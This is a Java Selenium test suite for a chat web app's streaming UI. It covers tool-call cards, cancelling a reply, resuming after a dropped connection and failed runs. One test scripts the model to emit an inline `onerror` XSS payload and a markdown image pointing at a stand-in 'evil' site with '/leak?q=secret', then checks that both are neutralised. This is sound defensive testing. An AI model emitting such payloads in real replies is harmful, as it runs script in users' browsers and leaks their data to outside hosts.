package com.threadline.chat.web;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;

import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.Keys;
import org.openqa.selenium.WebElement;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import com.threadline.chat.support.Api;
import com.threadline.chat.support.RecordedRequest;
import com.threadline.chat.support.Script;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Chatting in the page with the scripted model: streamed replies with tool calls, safe
 * markdown while it streams, stopping, surviving a dropped connection, and model errors.
 */
class ChatStreamingTests extends BrowserTest {

	private static final Duration RUN_WAIT = Duration.ofSeconds(30);

	private WebElement lastReply() {
		List<WebElement> replies = this.browser.messages("assistant");
		return replies.isEmpty() ? null : replies.get(replies.size() - 1);
	}

	private String replyText() {
		WebElement reply = lastReply();
		return (reply != null) ? reply.getText() : "";
	}

	private WebElement completedReply() {
		return this.browser.waitUntil(RUN_WAIT, d -> {
			WebElement reply = lastReply();
			return (reply != null && "completed".equals(reply.getDomAttribute("data-status"))) ? reply : null;
		});
	}

	private void send(String text) {
		WebElement input = this.browser.find("message-input");
		input.sendKeys(text);
		input.sendKeys(Keys.ENTER);
	}

	private void signInAsDemoUser() {
		this.browser.open("/");
		this.browser.find("demo").click();
		this.browser.waitUntil(d -> this.browser.find("assistant-name").getText().equals("瓜瓜"));
	}

	@Test
	void demoUserAsksAboutTheScheduleSeesTheQueryItsRowsAndTheStreamedAnswerAndFindsTheThreadAfterAReload() {
		String sql = "SELECT course_date, start_time, course_name, instructor FROM courses "
				+ "WHERE course_date >= date_trunc('week', current_date) "
				+ "AND course_date < date_trunc('week', current_date) + interval '7 days' ORDER BY course_date";
		List<String> answer = List.of("让我一步一步来：\n\n", "1. 查询本周的课程；\n", "2. 整理结果。\n\n", "本周有 **两节课**，",
				"周二和周四晚上 20:00–22:00。");
		this.model.when(RecordedRequest.lastUserMessageContains("这周有哪些课"),
				Script.toolCalls(Script.call("call_schedule", "ask_database",
						JsonMapper.shared().writeValueAsString(Map.of("query", sql)))),
				Script.text(answer.toArray(String[]::new)).delay(Duration.ofMillis(120)));
		signInAsDemoUser();

		send("这周有哪些课？");

		WebElement card = this.browser.waitUntil(RUN_WAIT,
				d -> this.browser.findAll("tool-call").stream().findFirst().orElse(null));
		this.browser.waitUntil(RUN_WAIT, d -> !card.findElements(By.tagName("table")).isEmpty());
		assertThat(card.findElement(Browser.testId("tool-input")).getText()).isEqualTo(sql);
		assertThat(card.findElements(By.cssSelector("thead th"))).extracting(WebElement::getText)
			.containsExactly("course_date", "start_time", "course_name", "instructor");
		assertThat(card.findElements(By.cssSelector("tbody tr"))).hasSize(2);
		this.browser.waitUntil(RUN_WAIT, d -> replyText().contains("两节课"));
		saveDocumentationScreenshot();
		WebElement reply = completedReply();
		assertThat(reply.getText()).isEqualTo("让我一步一步来：\n查询本周的课程；\n整理结果。\n本周有 两节课，周二和周四晚上 20:00–22:00。");
		assertThat(reply.findElements(By.cssSelector("ol > li"))).hasSize(2);
		assertThat(this.browser.find("error").isDisplayed()).isFalse();
		String token = (String) this.browser
			.script("return JSON.parse(sessionStorage.getItem('threadline.session')).token");
		assertThat(this.browser.fetched()).as("the token goes in headers, never in a URL")
			.anyMatch(url -> url.endsWith("/runs"))
			.noneMatch(url -> url.contains(token) || url.contains("access_token"));

		this.browser.reload();
		WebElement item = this.browser.waitUntil(d -> this.browser.find("thread-list")
			.findElements(By.tagName("button"))
			.stream()
			.filter(b -> b.getText().equals("这周有哪些课？"))
			.findFirst()
			.orElse(null));
		this.browser.find("new-thread").click();
		this.browser.waitUntil(d -> this.browser.messages("user").isEmpty());
		item.click();
		this.browser.waitUntil(d -> this.browser.messages("assistant").size() == 1);
		assertThat(this.browser.messages("user")).extracting(WebElement::getText).containsExactly("这周有哪些课？");
		assertThat(this.browser.findAll("tool-call")).singleElement()
			.satisfies(c -> assertThat(c.findElement(Browser.testId("tool-input")).getText()).isEqualTo(sql));
		assertThat(replyText()).endsWith("周二和周四晚上 20:00–22:00。");
	}

	@Test
	void englishMarkdownStreamsInRenderedAndNeitherRunsHtmlHiddenInItNorFetchesAnImageFromAnotherSite() {
		try (OtherOrigin evil = new OtherOrigin()) {
			Account grace = account("grace");
			String leak = evil.url("/leak?q=secret");
			this.model.when(RecordedRequest.lastUserMessageContains("[markdown]"),
					Script
						.text("Here you go:\n\n", "- list `code`\n", "- **bold** item\n\n",
								"<img src=x onerror=\"window.pwned='img'\"> done\n\n",
								"![chart](" + leak.substring(0, 20), leak.substring(20) + ")")
						.delay(Duration.ofMillis(60)));
			// DOMPurify parses the model's HTML in an inert document, where Chromium
			// already refuses (and reports) the
			// injected onerror handler under the page's policy; the sanitiser then drops
			// it.
			expectPolicyToRefuse("/webjars/dompurify/", "Executing inline event handler");
			openLink(grace);
			this.browser.waitUntil(d -> this.browser.find("assistant-name").getText().equals("Helper"));

			send("Show me [markdown], please");

			WebElement reply = completedReply();
			assertThat(reply.findElements(By.cssSelector("ul > li"))).extracting(WebElement::getText)
				.containsExactly("list code", "bold item");
			assertThat(reply.findElement(By.cssSelector("li code")).getText()).isEqualTo("code");
			assertThat(reply.findElements(By.cssSelector("[onerror], script"))).isEmpty();
			this.browser.asyncScript("const done = arguments[0]; setTimeout(() => done(null), 300)");
			assertThat(this.browser.script("return window.pwned ?? null")).isNull();
			assertThat(reply.findElement(By.cssSelector("img[alt=chart]")).getDomAttribute("src")).isNull();
			assertThat(evil.requests()).as("requests that reached the other site").isEmpty();
			assertThat(this.browser.messages("user")).extracting(WebElement::getText)
				.containsExactly("Show me [markdown], please");
		}
	}

	@Test
	void stoppingMidReplyKeepsThePartialTextAndSaysTheRunWasStopped() {
		Account heidi = account("heidi");
		String[] words = IntStream.rangeClosed(1, 40).mapToObj(i -> "word" + i + " ").toArray(String[]::new);
		this.model.when(RecordedRequest.lastUserMessageContains("[slow]"),
				Script.text(words).delay(Duration.ofMillis(250)));
		openLink(heidi);
		this.browser.waitUntil(d -> this.browser.find("assistant-name").getText().equals("Helper"));

		send("Tell me a long story [slow]");
		this.browser.waitUntil(RUN_WAIT, d -> replyText().contains("word3"));
		this.browser.find("cancel").click();

		WebElement status = this.browser.waitUntil(RUN_WAIT,
				d -> this.browser.findAll("run-status").stream().findFirst().orElse(null));
		assertThat(status.getDomAttribute("data-status")).isEqualTo("cancelled");
		String partial = replyText();
		assertThat(String.join("", words)).startsWith(partial);
		assertThat(partial).contains("word3").doesNotContain("word40");
		assertThat(lastReply().getDomAttribute("data-status")).isEqualTo("incomplete");
		this.browser
			.waitUntil(d -> !this.browser.find("cancel").isDisplayed() && this.browser.find("send").isEnabled());
		assertThat(this.browser.find("error").isDisplayed()).isFalse();
	}

	@Test
	void aConnectionDroppedMidReplyResumesFromTheLastEventWithNoGapAndNoRepeat() {
		Account ivan = account("ivan");
		String[] chunks = IntStream.rangeClosed(1, 30)
			.mapToObj(i -> "片段" + i + " chunk" + i + ". ")
			.toArray(String[]::new);
		String full = String.join("", chunks).strip();
		this.model.when(RecordedRequest.lastUserMessageContains("[drop]"),
				Script.text(chunks).delay(Duration.ofMillis(100)));
		openLink(ivan);
		this.browser.waitUntil(d -> this.browser.find("assistant-name").getText().equals("Helper"));

		send("Stream something long [drop]");
		this.browser.waitUntil(RUN_WAIT, d -> replyText().contains("chunk6."));
		int connectionsBefore = this.network.connections();
		assertThat(this.network.cut()).as("connections cut mid-reply").isPositive();

		List<String> samples = new ArrayList<>();
		this.browser.waitUntil(RUN_WAIT, d -> {
			String text = replyText();
			samples.add(text);
			assertThat(full).as("the reply so far never repeats or skips text").startsWith(text);
			WebElement reply = lastReply();
			return "completed".equals(reply.getDomAttribute("data-status"));
		});
		assertThat(replyText()).isEqualTo(full);
		assertThat(this.browser.find("connection").getDomAttribute("data-reconnects")).isNotNull();
		assertThat(this.network.connections()).isGreaterThan(connectionsBefore);
		assertThat(samples).isNotEmpty();
		assertThat(this.browser.find("error").isDisplayed()).isFalse();
		JsonNode messages = Api.get(this.api.as(ivan.token()),
				"/v1/threads/" + this.browser.driver().getCurrentUrl().replaceFirst(".*#thread=", "") + "/messages",
				200);
		assertThat(messages.get("data").get(0).get("content").get(0).get("text").get("value").asString())
			.isEqualTo(String.join("", chunks));
	}

	@Test
	void aModelThatFailsIsShownAsAFailedRun() {
		Account judy = account("judy");
		this.model.when(RecordedRequest.lastUserMessageContains("[fail]"), Script.serverError());
		openLink(judy);
		this.browser.waitUntil(d -> this.browser.find("assistant-name").getText().equals("Helper"));

		send("This will [fail]");

		WebElement error = this.browser.waitUntil(RUN_WAIT, d -> {
			WebElement e = this.browser.find("error");
			return e.isDisplayed() ? e : null;
		});
		assertThat(error.getText()).startsWith("The run failed:");
		WebElement status = this.browser.find("run-status");
		assertThat(status.getDomAttribute("data-status")).isEqualTo("failed");
		this.browser.waitUntil(d -> this.browser.find("send").isEnabled());
		assertThat(this.browser.messages("user")).extracting(WebElement::getText).containsExactly("This will [fail]");
	}

	@Test
	void aFunctionOnlyTheTenantsCodeCanAnswerIsReportedAndTheRunStopped() {
		Account kim = account("kim",
				Map.of("model", "gpt-4o-mini", "name", "Weather", "tools",
						List.of(Map.of("type", "function", "function", Map.of("name", "get_weather", "parameters",
								Map.of("type", "object", "properties", Map.of("city", Map.of("type", "string"))))))));
		this.model.when(RecordedRequest.lastUserMessageContains("天气"),
				Script.toolCalls(Script.call("call_weather", "get_weather", "{\"city\":\"北京\"}")));
		openLink(kim);
		this.browser.waitUntil(d -> this.browser.find("assistant-name").getText().equals("Weather"));

		send("北京天气怎么样？");

		WebElement status = this.browser.waitUntil(RUN_WAIT,
				d -> this.browser.findAll("run-status").stream().findFirst().orElse(null));
		assertThat(status.getDomAttribute("data-status")).isEqualTo("cancelled");
		assertThat(this.browser.find("error").getText()).contains("get_weather");
		WebElement card = this.browser.find("tool-call");
		assertThat(card.findElement(Browser.testId("tool-input")).getText()).contains("\"city\": \"北京\"");
		assertThat(card.getDomAttribute("data-status")).isNotEqualTo("in_progress");
		this.browser.waitUntil(d -> this.browser.find("send").isEnabled());
	}

	/**
	 * With {@code -Dchat.docs.screenshot=true}, the demo conversation mid-reply becomes
	 * the README's screenshot ({@code docs/screenshot.png}).
	 */
	private void saveDocumentationScreenshot() {
		Path shot = this.browser.screenshot("demo-conversation");
		if (Boolean.getBoolean("chat.docs.screenshot")) {
			try {
				Files.copy(shot, Path.of("docs", "screenshot.png"), StandardCopyOption.REPLACE_EXISTING);
			}
			catch (IOException ex) {
				throw new UncheckedIOException(ex);
			}
		}
	}

}
